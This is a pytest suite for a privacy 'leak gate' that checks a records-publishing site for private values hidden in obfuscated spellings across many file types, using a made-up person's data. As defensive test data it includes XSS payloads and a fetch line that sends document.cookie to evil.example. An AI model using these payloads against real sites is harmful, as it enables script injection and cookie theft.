"""The leak gate attacked: every way of writing a private value, in every place that can be read.

A table of spellings × channels. Each value is that of a made-up record; a page that holds any
spelling of it, wherever in whatever file, is refused, and nothing of it is repeated.
"""

from __future__ import annotations

import io
import json
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from datetime import date
from pathlib import Path
from unittest import mock

import pytest

from suowu.check.consistency import consistency_issues
from suowu.check.kind_checks import kind_checks
from suowu.cli import main
from suowu.corridor import build
from suowu.derive.shown import clashes, kept_from, places_of
from suowu.digest import digest_of_bytes
from suowu.grammar.documents import SIGNED, Signed, SignedPicture, SignedPlace
from suowu.grammar.shapes import BAD, At, Fault
from suowu.ledger import Secret
from suowu.model import Problem, Record
from suowu.privacy import gate, secrets_of
from suowu.privacy.exemptions import Exemptions, OwnWords, current
from suowu.privacy.folding import FoldedLine, line_of
from suowu.privacy.gate import OwnPage, leaks_of
from suowu.privacy.reading import Readings
from suowu.problems import problem, to_text, without_values
from suowu.publish.leak_check import known_of
from suowu.stages import SourceTree
from suowu.values import leaves_of
from tests.small_ledger import defined

ROOT = Path(__file__).resolve().parent.parent.parent
KINDS = {
    "kinds/thing/kind.yml": """\
名称: 事项
范围: 案
未成年: {出生: 出生日期}
字段:
  姓名: {type: string, meta: {公开: 姓某, 类: 姓名}}
  曾用名: {type: string, meta: {类: 姓名}}
  身份证号: {type: string, meta: {类: 身份证号}}
  电话: {type: string, meta: {类: 电话}}
  固话: {type: string, meta: {类: 电话}}
  居住地: {type: string, meta: {类: 住址}}
  出生日期: {type: date}
  银行账号: {type: string, meta: {类: 银行卡}}
  车牌: {type: string, meta: {类: 车牌}}
  文号: {type: string, meta: {类: 文号}}
  罪名: {type: string}
  备注: {type: string}
  主持人: {type: string, meta: {类: 姓名, 引用: 所:人员.姓名}}
  家属: {type: list, schema: {type: dict, schema: {姓名: {type: string, meta: {类: 姓名}}}}}
""",
    "kinds/office/kind.yml": """\
名称: 司法所
范围: 所
字段:
  名称: {type: string, meta: {公开: 原样}}
  电话: {type: string, meta: {公开: 原样, 类: 电话}}
  地址: {type: string, meta: {公开: 原样}}
  人员:
    type: list
    schema:
      type: dict
      schema:
        姓名: {type: string, meta: {公开: 原样, 类: 姓名}}
        职责: {type: list, schema: {type: string, meta: {公开: 原样}}}
        手机: {type: string, meta: {类: 电话}}
""",
}
LAW = defined(shapes=KINDS, words={})
DATA = {
    "姓名": "庄怀瑾",
    "曾用名": "高锋",
    "身份证号": "990000198705160035",
    "电话": "19900001101",
    "固话": "0500-80000021",
    "居住地": "云岭县白鹤镇柏树村 5 组 12 号",
    "出生日期": date(1987, 5, 16),
    "银行账号": "6222020200112233446",
    "车牌": "苏F8K123",
    "文号": "（2026）示0000刑初12号",
    "罪名": "危险驾驶罪",
    "备注": "因与邻居争水打架，被村里调解过两次",
    "家属": [
        {"姓名": name} for name in ("肖建国", "扎西次仁", "阿依古丽·买买提", "付闫", "赖医院")
    ],
}
SECRETS = kept_from({"qinghe/thing/1": tuple(secrets_of(LAW.kinds["thing"], DATA))}, {})

# --- spellings by field, as they may be typed anywhere; MARKED: where there is markup -------------

SPELLINGS = {
    "姓名": [
        "庄怀瑾", "莊懷瑾", "庄 怀瑾", "庄\u3000怀\u3000瑾", "庄\u00a0怀瑾", "庄·怀瑾", "庄.怀.瑾",
        "庄\u200b怀瑾", "庄\u200d怀瑾", "庄\u2060怀瑾", "庄\u00ad怀瑾", "庄\u202e怀瑾",
        "庄\u034f怀瑾", "庄\ufe00怀瑾", "庄-怀-瑾", "庄_怀瑾", "庄\n怀瑾", "对象庄怀瑾外出",
        "庄\U000e0100怀瑾",
    ],
    "曾用名": ["高锋", "高鋒", "高 锋", "高\u3000锋", "高\u200b锋", "高·锋", "对象高锋外出"],
    "现代姓氏": ["肖建国", "萧建国", "蕭建國", "肖 建国"],
    "少数民族": [
        "扎西次仁", "扎西\u00a0次仁", "阿依古丽.买买提",
        "阿依古丽·买买提", "阿依古丽", "买买提", "买 买 提",
    ],
    "像词的姓名": ["赖医院", "付闫", "傅阎"],
    "身份证号": [
        "990000198705160035", "９９００００１９８７０５１６００３５", "9900 0019 8705 1600 35",
        "990000-19870516-0035", "990000 1987 0516 0035", "990000\u00a019870516\u00a00035",
        "99000019870\n5160035", "九九〇〇〇〇一九八七〇五一六〇〇三五", "990.000.198.705.160.035",
        "9900001987\u200b05160035",
    ],
    "电话": [
        "19900001101", "199 0000 1101", "1990-0001-101", "199.0000.1101", "+86 19900001101",
        "１９９００００１１０１", "一九九零零零零一一零一", "199\u00a00000\u00a01101",
        "(199)0000-1101", "1 9 9 0 0 0 0 1 1 0 1", "199\u200b00001101", "壹玖玖零零零零壹壹零壹",
    ],
    "固话": ["0500-80000021", "050080000021", "0500 8000 0021", "（0500）80000021"],
    "居住地": [
        "云岭县白鹤镇柏树村 5 组 12 号", "云岭县白鹤镇柏树村5组12号", "柏树村5组12号",
        "柏树村五组十二号", "柏树村 5 组 12 号", "柏樹村五組十二號", "白鹤镇柏树村5组12号",
        "柏树村５组１２号", "柏树村，5组，12号", "柏树村伍组拾贰号",
    ],
    "出生日期": [
        "1987-05-16", "1987年5月16日", "1987年05月16日", "1987.05.16", "1987/5/16", "19870516",
        "1987/05/16", "一九八七年五月十六日", "1987 年 5 月 16 日", "1987.5.16", "1987年5月16号",
        "1 9 8 7 0 5 1 6", "一九八七〇五一六", "一九八七 五 十六", "1987-0516", "1987516",
        "1987, 5, 16", "编号19870516001", "1987\u200b0516", "1-9-8-7-5-1-6",
        "周一1987-5-16", "1987/05/16一", "三１９８７．５．１６", "二1 9 8 7 0 5 1 6一",
    ],
    "银行账号": [
        "6222020200112233446", "6222 0202 0011 2233 446", "6222-0202-0011-2233-446",
        "６２２２０２０２００１１２２３３４４６",
    ],
    "车牌": ["苏F8K123", "苏F·8K123", "苏f8k123", "蘇F8K123", "苏F 8K123", "苏Ｆ８Ｋ１２３"],
    "文号": ["（2026）示0000刑初12号", "(2026)示0000刑初12号", "〔2026〕示 0000 刑初 12 号"],
    "备注": ["因与邻居争水打架，被村里调解过两次", "邻 居 争 水 打 架 被 村 里"],
}  # fmt: skip
MARKED = {
    "姓名": [
        "<b>庄</b>怀瑾", "庄<span>怀</span>瑾", "<td>庄</td><td>怀瑾</td>",
        "对象庄<!-- > -->怀瑾外出",
        "&#24196;怀瑾", "&#x5e84;&#x6000;&#x747e;", "庄&shy;怀瑾", "庄&nbsp;怀瑾", "庄&zwj;怀瑾",
        "庄<wbr>怀瑾", "庄<br>怀瑾", "<p>庄</p>\n<p>怀</p>\n<p>瑾</p>", "&amp;#24196;怀瑾",
        '庄<a title=">">怀瑾</a>', "<ruby>庄<rt></rt></ruby>怀瑾",
    ],
    "曾用名": ["高<span>锋</span>", "<td>高</td><td>锋</td>", "&#39640;锋", "<p>高<i></i>锋</p>"],
    "身份证号": ["990000<wbr>19870516<wbr>0035", "<td>990000</td><td>19870516</td><td>0035</td>"],
    "电话": ["199<b>0000</b>1101", "199&#45;0000&#45;1101", "<td>199</td><td>00001101</td>"],
    "出生日期": [
        "<td>1987</td><td>5</td>\n<td>16</td>", "19<b>87</b>0516", "1987<br>05<br>16",
        "1987<!-- > -->0516",
    ],
    "居住地": ["柏树村<b>5</b>组<b>12</b>号", "<td>柏树村</td><td>5组</td><td>12号</td>"],
}  # fmt: skip

# --- channels: a text → the file that carries it -------------------------------------------------


def _html(text: str) -> tuple[str, bytes]:
    return "public/a.html", f"<!doctype html><article><p>{text}</p></article>".encode()


def _packed(**parts: str) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as out:
        for name, text in parts.items():
            out.writestr(f"word/{name}.xml", text)
    return packed.getvalue()


def _escaped(text: str) -> str:
    return json.dumps(text)[1:-1]


def _styled(text: str) -> str:
    return "".join(f"\\{ord(character):06x}" for character in text)


def _quoted(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


CHANNELS: dict[str, Callable[[str], tuple[str, bytes]]] = {
    "HTML text": _html,
    "attribute": lambda t: ("public/a.html", f'<p title="{t}">一</p>'.encode()),
    "comment": lambda t: ("public/a.html", f"<p>一</p><!-- {t} -->".encode()),
    "head": lambda t: ("public/a.html", f'<meta name="x" content="{t}">'.encode()),
    "address": lambda t: ("public/a.html", f'<a href="b.html?q={_quoted(t)}">一</a>'.encode()),
    "script": lambda t: ("public/js/site.js", f'var a = "{t}";'.encode()),
    "script by number": lambda t: ("public/js/site.js", f'var a = "{_escaped(t)}";'.encode()),
    "style": lambda t: ("public/css/site.css", f'p::after {{content: "{t}"}}'.encode()),
    "style by number": lambda t: ("public/a.css", f'p::after {{content: "{_styled(t)}"}}'.encode()),
    "style comment": lambda t: ("public/css/site.css", f"/* {t} */".encode()),
    "svg": lambda t: ("public/img/a.svg", f"<svg><text>{t}</text></svg>".encode()),
    "svg title": lambda t: ("public/img/a.svg", f"<svg><title>{t}</title></svg>".encode()),
    "json": lambda t: ("public/a.json", json.dumps({"a": t}).encode()),
    "search index": lambda t: (
        "public/search/index.js",
        f"window.searchIndex={json.dumps([{'x': f'一 {t} 二'}], ensure_ascii=False)};".encode(),
    ),
    "feed": lambda t: ("public/feed.xml", f"<feed><title>{t}</title></feed>".encode()),
    "text": lambda t: ("public/robots.txt", f"# {t}\n".encode()),
    "calendar": lambda t: ("public/a.ics", f"SUMMARY:{t}\n".encode()),
    "table": lambda t: ("public/a.csv", f"一,{t}\n".encode()),
    "DOCX": lambda t: ("public/a.docx", _packed(document=f"<w:p><w:r><w:t>{t}</w:t></w:r></w:p>")),
    "DOCX properties": lambda t: ("public/a.docx", _packed(core=f"<dc:title>{t}</dc:title>")),
    "PDF": lambda t: ("public/a.pdf", b"%PDF-1.7\n" + t.encode()),
    "picture": lambda t: ("public/img/a.png", png((b"tEXt", b"Comment\0" + t.encode()))),
    "renamed record": lambda t: ("public/img/a.png", f"姓名: {t}\n".encode()),
    "file name": lambda t: (f"public/notices/{t}.html", b"<p></p>"),
}  # fmt: skip
MARKUP = ("HTML text", "svg", "feed", "DOCX")


def png(*parts: tuple[bytes, bytes]) -> bytes:
    """The smallest picture, with these parts beside it."""
    head = (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    whole = [head, *parts, (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")]
    lines = (
        struct.pack(">I", len(d)) + n + d + struct.pack(">I", zlib.crc32(n + d)) for n, d in whole
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(lines)


def cases() -> Iterator[tuple[str, str, str]]:
    for channel in CHANNELS:
        for field, texts in SPELLINGS.items():
            yield from ((channel, field, text) for text in texts)
        if channel in MARKUP:
            for field, texts in MARKED.items():
                yield from ((channel, field, text) for text in texts)


def refused(path: str, content: bytes, **more: object) -> list[str]:
    found = gate([(path, content)], secrets=SECRETS, **more)  # type: ignore[arg-type]
    return [f"{each.path} {each.message} {each.hint}" for each in found]


def unseen(channel: str) -> list[tuple[str, str]]:
    """The spellings that go through."""
    return [
        (field, text)
        for each, field, text in cases()
        if each == channel and not refused(*CHANNELS[channel](text))
    ]


@pytest.mark.parametrize("channel", CHANNELS)
def test_no_spelling_goes_through(channel: str) -> None:
    assert unseen(channel) == []


@pytest.mark.parametrize("channel", CHANNELS)
def test_what_is_refused_is_not_repeated(channel: str) -> None:
    for field, texts in SPELLINGS.items():
        for text in texts:
            told = "".join(refused(*CHANNELS[channel](text)))
            assert text not in told and str(DATA.get(field, "庄怀瑾")) not in told


def test_the_table_is_large() -> None:
    assert len(list(cases())) > 2_300


# --- figures that make up a day of birth by chance -----------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "<td>19</td><td>87</td><td>5</td><td>16</td>",
        "<td>1</td><td>9</td><td>8</td><td>7</td><td>5</td><td>1</td><td>6</td>",
        "<path d='M19.87 5.1 6 5.95 11'/>",
        "<td>198</td><td>7516</td>",
        f"<code>52b6a106b7d7e49984e8{'1987516'}30e3f35cf45aab1a73915fe80fdeba6aa84a5</code>",
        "0.198 75 16",
        "2 1 9 8 7 5 1 6 3",
    ],
)
def test_figures_of_something_else_are_nobodys_birth(text: str) -> None:
    assert refused(*_html(text)) == []


def test_only_a_whole_digest_hides_its_figures() -> None:
    assert refused(*_html("52b6a106b7d7e4998419870516ffeb"))
    assert refused(*_html("<code>生日 19870516</code>"))


# --- what excuses a find: a signed place, and nothing else ----------------------------------------

SIGNED_ON = date(2026, 3, 20)


def signed(value: str, page: str, *, until: date = date(2026, 12, 31)) -> Signed:
    place = SignedPlace(value=value, page=page, reason="不是此人", who="办公室", until=until)
    return current(Signed(places=(place,)), SIGNED_ON)


def test_a_page_is_never_its_own_alibi() -> None:
    page = "<p>社区矫正对象高锋，犯危险驾驶罪，车牌苏F8K123。</p>" * 3
    assert refused("public/guide.html", page.encode())


@pytest.mark.parametrize(
    ("value", "page", "until", "passes"),
    [
        ("山高锋利", "guide.html", date(2026, 12, 31), True),
        ("山高锋利", "guide.html", date(2026, 3, 20), True),
        ("山高锋利", "guide.html", date(2026, 3, 19), False),
        ("山高锋利", "about.html", date(2026, 12, 31), False),
        ("高锋", "guide.html", date(2026, 12, 31), True),
        ("天高锋利", "guide.html", date(2026, 12, 31), False),
    ],
)
def test_a_signed_place_passes_on_its_page_until_its_day(
    value: str, page: str, until: date, passes: bool
) -> None:
    found = refused(
        "public/guide.html", "山高锋利".encode(), signed=signed(value, page, until=until)
    )
    assert (found == []) is passes


def test_signing_for_one_place_lets_no_other_pass() -> None:
    both = "山高锋利。社区矫正对象高锋外出。".encode()
    assert refused("public/guide.html", both, signed=signed("山高锋利", "guide.html"))


def test_an_identity_number_passes_by_nothing() -> None:
    number = DATA["身份证号"]
    known = OwnWords(phones=frozenset({str(number)}), names=frozenset({f"{number}甲"}))
    list_ = signed(f"证号{number}", "guide.html")
    page = f"<p>证号{number}</p>".encode()
    found = gate([("public/guide.html", page)], secrets={}, signed=list_, known=known)
    assert [each.message for each in found] == ["公开文件中出现身份证号样式的数字，已停止发布"]


def test_an_identity_number_cannot_be_signed_for() -> None:
    place = {
        "值": DATA["身份证号"],
        "页": "a.html",
        "理由": "甲",
        "谁": "乙",
        "至": date(2026, 12, 31),
    }
    faults: list[Fault] = []
    assert SIGNED.read({"放行": [place]}, At((), faults)) is BAD
    assert [fault.where for fault in faults] == [("放行", 0, "值")]


@pytest.mark.parametrize(
    "text",
    [
        "990000198705160035", "990000 870516 003", "990000870516003", "19900009999",
        "6222 0202 0011 2233 446", "京A·12345", "苏FD12345", "沪A1234挂",
    ],
)  # fmt: skip
def test_numbers_of_nobody_we_know_are_refused_by_their_shape(text: str) -> None:
    assert gate([("public/a.html", f"<p>号码 {text}。</p>".encode())], secrets={})


# --- what is public somewhere is a secret all the same --------------------------------------------

STAFF = {"名称": "青河司法所", "电话": "0500-80000001", "地址": "振兴街 35 号"}


def office(**fields: object) -> Record:
    data = {**STAFF, **fields}
    return Record(
        office="qinghe", kind="office", id="office", path="records/qinghe/office.yml", digest="",
        data=data,
    )  # fmt: skip


def kept(record: Record, data: dict[str, object]) -> tuple[dict[str, Secret], list[str]]:
    places = places_of([(record, record.data)], LAW)
    secrets = kept_from({"qinghe/thing/1": tuple(secrets_of(LAW.kinds["thing"], data))}, places)
    told = clashes(secrets, places, signed=Signed())
    return secrets, [f"{each.level} {each.path} {each.message}" for each in told]


@pytest.mark.parametrize(
    ("public", "private"),
    [
        ({"电话": "199-0000-1101"}, {"电话": "19900001101"}),
        ({"地址": "柏树村五组 12 号"}, {"居住地": "柏树村 5 组 12 号"}),
        ({"名称": "990000198705160035"}, {"身份证号": "990000198705160035"}),
        ({"人员": [{"姓名": "常培元", "职责": ["庄怀瑾"]}]}, {"姓名": "庄怀瑾"}),
        ({"人员": [{"姓名": "庄怀瑾"}]}, {"姓名": "庄怀瑾"}),
        ({"人员": [{"姓名": "常培元", "职责": ["肖建国"]}]}, {"家属": [{"姓名": "肖建国"}]}),
    ],
    ids=["phone", "home", "identity number", "a duty", "the same name", "a relative's"],
)
def test_the_same_in_public_and_in_private_is_an_error_with_both_places(
    public: dict[str, object], private: dict[str, object]
) -> None:
    secrets, told = kept(office(**public), private)
    values = {str(value) for _, value in leaves_of(private)}
    assert set(secrets) >= values, "a public value abolished the secret"
    (line,) = told
    assert line.startswith("错误 records/qinghe/office.yml") and "qinghe/thing/1" in line
    assert not any(value in line for value in values)


def test_whom_an_office_names_as_staff_is_no_secret_where_staff_is_named() -> None:
    staff = office(人员=[{"姓名": "常培元"}])
    secrets, told = kept(staff, {"主持人": "常培元", "家属": [{"姓名": "肖建国"}]})
    assert "常培元" not in secrets and "肖建国" in secrets and told == []


def test_what_is_signed_for_may_be_in_both() -> None:
    record = office(电话="19900001101")
    places = places_of([(record, record.data)], LAW)
    found = tuple(secrets_of(LAW.kinds["thing"], {"电话": "19900001101"}))
    secrets = kept_from({"qinghe/thing/1": found}, places)
    list_ = signed("19900001101", "offices/qinghe.html")
    assert not list(clashes(secrets, places, signed=list_))
    known, page = OwnWords(phones=frozenset({"19900001101"})), b"<p>19900001101</p>"
    for path, passes in (("public/offices/qinghe.html", True), ("public/a.html", False)):
        told = gate([(path, page)], secrets=secrets, signed=list_, known=known)
        assert (told == ()) is passes


# --- a person's own page, and free text -----------------------------------------------------------


def test_on_the_page_about_a_person_nothing_else_about_the_person_stands() -> None:
    page = "<article><p>庄某因危险驾驶罪被训诫。</p></article>".encode()
    own = {"public/notices/1.html": OwnPage("qinghe/thing/1", frozenset({"庄某"}))}
    told = gate([("public/notices/1.html", page)], secrets=SECRETS, own=own)
    assert [each.field for each in told] == ["罪名"]
    assert not gate([("public/guide.html", page)], secrets=SECRETS, own=own)


@pytest.mark.parametrize(("title", "said"), [("", ["备注"]), ("迁居公示", [])])
def test_a_notice_may_say_what_it_is_called(title: str, said: list[str]) -> None:
    page = "<article><p>庄某迁居的申请已于近日批准。</p></article>".encode()
    found = {"qinghe/thing/1": tuple(secrets_of(LAW.kinds["thing"], {"备注": "迁居"}))}
    own = {"public/notices/1.html": OwnPage("qinghe/thing/1", frozenset({"庄某"}), title=title)}
    told = gate([("public/notices/1.html", page)], secrets=kept_from(found, {}), own=own)
    assert [each.field for each in told] == said


def test_what_many_records_say_is_no_secret() -> None:
    text = "遵守报告、会客、外出、迁居的规定"
    found = {
        f"qinghe/thing/{n}": tuple(secrets_of(LAW.kinds["thing"], {"备注": text})) for n in range(3)
    }
    page = f"<p>对象应当{text}。</p>".encode()
    assert not gate([("public/a.html", page)], secrets=kept_from(found, {}))
    assert gate([("public/a.html", page)], secrets=kept_from(dict(list(found.items())[:2]), {}))


# --- what acts or fetches -------------------------------------------------------------------------

ACTING = [
    '<script src="https://evil.example/x.js"></script>',
    '<script src="//evil.example/x.js"></script>',
    "<script>alert(1)</script>", '<iframe src="a.html"></iframe>', "<object data=a.svg></object>",
    '<img src="https://evil.example/p.gif">', "<img src=//evil.example/p.gif>",
    '<img srcset="a.svg 1x, https://evil.example/b.svg 2x">',
    '<link rel=stylesheet href="http://evil.example/">',
    '<form action="https://evil.example/"></form>',
    "<button formaction=//evil.example/>一</button>",
    "<img src=a.svg onerror=alert(1)>", '<p ONCLICK = "x()">一</p>', "<svg/onload=x()>",
    '<a href="javascript:alert(1)">一</a>', '<a href="java\tscript:alert(1)">一</a>',
    '<a href="&#106;avascript:alert(1)">一</a>', '<a href="data:text/html,<b>">一</a>',
    '<a href="https://evil.example/">一</a>', '<a href="//evil.example">一</a>',
    '<a href="../internal/cases/1.html">一</a>', '<a href="x/../../internal/1.html">一</a>',
    '<a href="\\\\evil.example">一</a>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<base href=//evil.example/>", '<p style="background:url(//evil.example/a)">一</p>',
    "<style>@import '//evil.example/a.css'</style>",
    '<video poster="https://evil.example/a"></video>',
    '<svg><use xlink:href="https://evil.example/a.svg#b"></use></svg>',
    "<a ping=//evil.example href=a.html>",
    '<svg><set attributeName="href" to="javascript:x()"/></svg>',
    '<img src="data:image/png;base64,AAAA">', '<a href="file:///etc/passwd">一</a>',
]  # fmt: skip


@pytest.mark.parametrize("text", ACTING)
def test_no_page_acts_or_fetches(text: str) -> None:
    assert gate([("public/a.html", text.encode())], secrets={})


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("public/css/a.css", "p {background: url(https://evil.example/a)}"),
        ("public/css/a.css", "@import '//evil.example/a.css';"),
        ("public/css/a.css", "p {background: url(data:image/png;base64,AAAA)}"),
        ("public/js/a.js", 'fetch("https://evil.example/" + document.cookie)'),
        ("public/js/a.js", 'fetch("//evil.example/")'),
        ("public/js/a.js", 'var a = "data:image/png;base64,AAAA";'),
        ("public/js/a.js", 'fetch("\\u0068ttps://evil.example/")'),
        ("public/img/a.svg", "<svg><script>x()</script></svg>"),
        ("public/img/a.svg", '<svg onload="x()"></svg>'),
        ("public/feed.xml", '<feed><link href="https://evil.example/"/></feed>'),
    ],
)
def test_no_other_file_acts_or_fetches(path: str, text: str) -> None:
    assert gate([(path, text.encode())], secrets={})


@pytest.mark.parametrize(
    "text",
    [
        '<a href="https://sifa.example.invalid/a">一</a>', '<a href="tel:0500-80000001">一</a>',
        '<a href="mailto:a@example.invalid">一</a>', '<a href="#top">一</a>',
        '<img src="../img/a.svg">',
        '<a href="/index.html">一</a>', "<p>一 on = 二</p>",
        '<script src="../js/site.js" defer></script>',
        '<form action="../search.html"></form>',
    ],
)  # fmt: skip
def test_a_page_may_lead_to_its_own_site(text: str) -> None:
    known = OwnWords(hosts=frozenset({"sifa.example.invalid"}))
    assert not gate([("public/offices/a.html", text.encode())], secrets={}, known=known)


def test_an_address_outside_passes_where_somebody_signed_for_it() -> None:
    page = '<a href="https://www.gov.example/law">法律</a>'.encode()
    list_ = signed("https://www.gov.example/law", "guide.html")
    assert not gate([("public/guide.html", page)], secrets={}, signed=list_)
    assert gate([("public/about.html", page)], secrets={}, signed=list_)


# --- pictures and files that cannot be read -------------------------------------------------------


def pictures(content: bytes, name: str) -> Signed:
    digest = digest_of_bytes(content)
    listed = SignedPicture(file=name, digest=digest, reason="局徽", who="办公室")
    return Signed(pictures=(listed,))


JPEG = b"\xff\xd8\xff\xe0\x00\x04JF\xff\xda\x00\x02\x01\x02\xff\xd9"
EXIF = JPEG[:2] + b"\xff\xe1\x00\x08Exif\0\0" + JPEG[2:]
WOFF = b"wOF2" + bytes(44)


@pytest.mark.parametrize(
    ("name", "content", "passes"),
    [
        ("img/a.png", png(), True),
        ("img/a.png", png((b"tEXt", b"Comment\0x")), False),
        ("img/a.png", png((b"eXIf", b"MM")), False),
        ("img/a.png", png() + b"more", False),
        ("img/a.png", png()[:-3], False),
        ("img/a.png", JPEG, False),
        ("img/a.jpg", JPEG, True),
        ("img/a.jpg", EXIF, False),
        ("img/a.jpg", JPEG[:-2] + b"\xff\xfe\x00\x03x\xff\xd9", False),
        ("img/a.jpg", JPEG[:2] + b"\xff\xfe\x00\x03x" + JPEG[2:], False),
        ("img/a.jpg", JPEG + "庄怀瑾".encode(), False),
        ("img/a.webp", b"RIFF\x0c\0\0\0WEBPVP8 \0\0\0\0", True),
        ("img/a.webp", b"RIFF\x0c\0\0\0WEBPEXIF\0\0\0\0", False),
        ("fonts/a.woff2", WOFF, True),
        ("fonts/a.woff2", WOFF[:28] + b"\0\0\0\x30\0\0\0\x09" + WOFF[36:], False),
        ("img/a.ico", b"\0\0\1\0\0\0", False),
    ],
)
def test_a_picture_goes_out_bare_and_signed_for(name: str, content: bytes, passes: bool) -> None:
    list_ = pictures(content, name)
    assert (gate([(f"public/{name}", content)], secrets={}, signed=list_) == ()) is passes
    assert gate([(f"public/{name}", content)], secrets={}), "nobody signed for it"
    other = pictures(content + b"x", name)
    assert gate([(f"public/{name}", content)], secrets={}, signed=other)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("public/a.pdf", b"%PDF-1.7"),
        ("public/a.gif", b"GIF89a"),
        ("public/a.html", "庄怀瑾".encode("gb18030")),
        ("public/a.html", "庄怀瑾".encode("utf-16")),
        ("public/a.docx", b"no zip"),
        ("public/a.docx", b""),
        ("public/a.js.map", b"{}"),
        ("public/a.html.gz", b"\x1f\x8b"),
    ],
)
def test_what_cannot_be_read_does_not_go_out(path: str, content: bytes) -> None:
    assert gate([(path, content)], secrets=SECRETS)


def test_halves_of_a_rare_character_are_read_and_crash_nothing() -> None:
    secrets = {"𠮷田𠀀": Secret("𠮷田𠀀", "a/b/1", "姓名", strict=True, sort="姓名")}
    for text in (
        json.dumps({"a": "𠮷田𠀀"}),
        '{"a": "\\ud842\\udfb7田\\ud840\\udc00"}',
        '"\\ud842"',
    ):
        found = gate([("public/a.json", text.encode())], secrets=secrets)
        assert bool(found) is ("田" in text or "7530" in text)


# --- at the door, and in the log ------------------------------------------------------------------


def names_refused(name: str) -> list[str]:
    checks = kind_checks(LAW.kinds["thing"])
    return [each.says for each in consistency_issues({"姓名": name}, checks, id="2026-001")]


@pytest.mark.parametrize(
    "name",
    [
        "庄\u200b怀瑾", "庄\u200d怀瑾", "庄\u00ad怀瑾", "\u202e庄怀瑾", "庄怀瑾\u2060",
        "庄\ufe00怀瑾",
        "庄 怀瑾", "庄\u3000怀瑾", "庄\u00a0怀瑾", "庄怀瑾\ufeff", "庄怀瑾\U000e0100", "Jose\u0301",
        "庄\u2028怀瑾",
    ],
)  # fmt: skip
def test_what_nobody_sees_in_a_name_is_refused_at_the_door(name: str) -> None:
    assert names_refused(name) == ["姓名里不得有空格或者看不见的字符"]


@pytest.mark.parametrize("name", ["庄怀瑾", "阿依古丽·买买提", "John Smith", "𠮷田", "བཀྲ་ཤིས"])
def test_names_as_people_have_them_are_let_in(name: str) -> None:
    assert names_refused(name) == []


def test_in_a_log_that_others_read_no_value_of_a_record_stands() -> None:
    says = "须与身份证号一致（1987-05-16）"
    told = (
        problem("校验码不对", "990000198705160038", path="a.yml", record="2026-001"),
        problem(says, date(1987, 5, 17), path="a.yml", record="2026-001"),
        problem("须为本所人员", "庄怀瑾", path="a.yml", record="2026-001", hint="例如 19900001101"),
        problem("主持人庄怀瑾不在名册", path="a.yml", record="2026-001"),
        problem("须为一组字段", {"姓名": "庄怀瑾"}, path="a.yml", record="2026-001"),
    )
    text = to_text(without_values(told, ["庄怀瑾"]))
    assert not any(word in text for word in ("9900", "1987-05-16", "庄怀瑾", "1990"))
    assert "校验码不对" in text and "a.yml" in text


@pytest.mark.parametrize("value", ["true", "1"])
def test_check_hides_values_where_ci_says_so(
    value: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    records = Path(shutil.copytree(ROOT / "tests/golden/county/records", tmp_path / "records"))
    case = sorted(records.rglob("correction/*.yml"))[0]
    text = case.read_text("utf-8")
    number = text.partition("身份证号: ")[2].split()[0].strip('"')
    wrong = number[:-1] + ("1" if number[-1] != "1" else "2")
    case.write_text(text.replace(number, wrong, 1), "utf-8")
    for ci, shown in (("", True), (value, False)):
        monkeypatch.setenv("CI", ci)
        assert main(["check", "--records", str(records), "--no-cache"]) == 1
        assert (wrong in capsys.readouterr().out) is shown


# --- false alarms ---------------------------------------------------------------------------------


def ordinary_text() -> list[tuple[str, bytes]]:
    """The project's own pages and handbook, as if all of it were to go out."""
    files = [*(ROOT / "content/handbook").glob("*.md"), *(ROOT / "content/public").glob("*.md")]
    return [(f"public/{file.name}.txt", file.read_bytes()) for file in sorted(files)]


def test_no_false_alarm_on_the_demo_s_pages_and_handbook() -> None:
    """Not even if each of the demo's free texts stood in one record only."""
    tree = SourceTree(
        records=ROOT / "records", content=ROOT / "content", templates=ROOT / "templates"
    )
    ledger = build(tree, lambda book: date(2026, 3, 20)).ledger
    assert ledger is not None
    assert [each for each in ledger.problems if each.rule == "leak"] == []
    rare = {value: each._replace(spread=1) for value, each in ledger.secrets.items()}
    told = gate(ordinary_text(), secrets=rare, known=known_of(ledger))
    assert [(each.path, each.record, each.field) for each in told] == []


def test_the_gate_s_work_grows_with_the_text_and_no_faster() -> None:
    """Counted in calls, not in time: ten times the pages, ten times the searches."""
    page = "<article><p>第 {} 页。" + "社区矫正对象应当报告。" * 50 + "</p></article>"

    def searches(number: int) -> int:
        seen: list[int] = []
        files = ((f"public/{n}.html", page.format(n).encode()) for n in range(number))
        with mock.patch("suowu.privacy.reading.line_of", side_effect=counting(seen)):
            gate(files, secrets=SECRETS)
        return sum(seen)

    assert searches(40) <= 4.2 * searches(10)


@pytest.mark.parametrize("channel", CHANNELS)
def test_a_text_read_by_an_earlier_build_is_searched_all_the_same(channel: str) -> None:
    """Nothing was secret then: what is kept of a text knows of nobody."""
    files = [CHANNELS[channel](text) for each, _, text in cases() if each == channel]
    files = [(path.replace(".", f"-{n}.", 1), content) for n, (path, content) in enumerate(files)]
    before = Readings()

    def told(secrets: Mapping[str, Secret], readings: Readings) -> tuple[Problem, ...]:
        return leaks_of(
            files,
            secrets=secrets,
            exemptions=Exemptions(signed=Signed(), known=OwnWords()),
            own={},
            readings=readings,
        )

    told({}, before)
    again = Readings(last=before.kept)
    assert told(SECRETS, again) == told(SECRETS, Readings())
    assert again.kept == before.kept and len(again.kept) > len(SPELLINGS)


def counting(seen: list[int]) -> Callable[[str], FoldedLine]:
    def counted(lines: str) -> FoldedLine:
        seen.append(len(lines))
        return line_of(lines)

    return counted
